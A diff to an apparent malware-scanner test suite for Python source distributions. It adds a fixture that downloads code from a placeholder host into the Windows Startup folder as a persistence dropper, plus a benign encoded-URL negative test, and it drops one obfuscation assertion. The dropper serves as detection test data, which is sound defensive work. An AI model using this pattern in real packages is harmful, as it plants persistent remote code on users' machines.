@@ -984,7 +984,6 @@ def test_exfil_sink_fires_for_encoded_address_on_client_object(tmp_path: Path, s
     result = scan(write_sdist(tmp_path, files), scanner)
     found = assert_fires(result, "exfil-sink", Verdict.SUSPICIOUS, severity=Severity.HIGH)
     assert any("collector.example.invalid" in f.reason for f in found), describe(result)
-    assert_fires(result, "obfuscation", Verdict.SUSPICIOUS, severity=Severity.MEDIUM)
 
 
 STARTFILE_DROPPER_INIT = """from os import environ, startfile
@@ -1095,6 +1094,34 @@ def test_persistence_fires_for_download_appended_to_rc_from_imported_test_module
 def test_persistence_benign_path_export(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/setup_env.py": RC_PATH_EXPORT}), scanner)
     assert_quiet(result, "persistence", not_verdict=Verdict.SUSPICIOUS, below=Severity.HIGH)
+
+
+STARTUP_FOLDER_DROPPER = """import os
+
+import requests
+
+
+def init():
+    user = f"C:\\\\Users\\\\{os.getlogin()}\\\\AppData\\\\Roaming"
+    folder = user + "\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup"
+    with open(folder + "\\\\startup.py", "wb") as handle:
+        handle.write(requests.get("http://127.0.0.1:9/main.py").content)
+"""
+
+
+def test_persistence_fires_for_download_saved_into_startup_folder(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/nuke.py": STARTUP_FOLDER_DROPPER}), scanner)
+    assert_fires(result, "persistence", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+ENCODED_URL_CONSTANT = f"""DOCS = "{b64("https://docs.example.invalid/guide")}"
+"""
+
+
+def test_encoded_url_without_requests_is_only_noted(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/links.py": ENCODED_URL_CONSTANT}), scanner)
+    assert_quiet(result, "exfil-sink")
+    assert_quiet(result, "obfuscation", below=Severity.HIGH)
 
 
 def test_sabotage_fires(tmp_path: Path, scanner: Scanner) -> None:
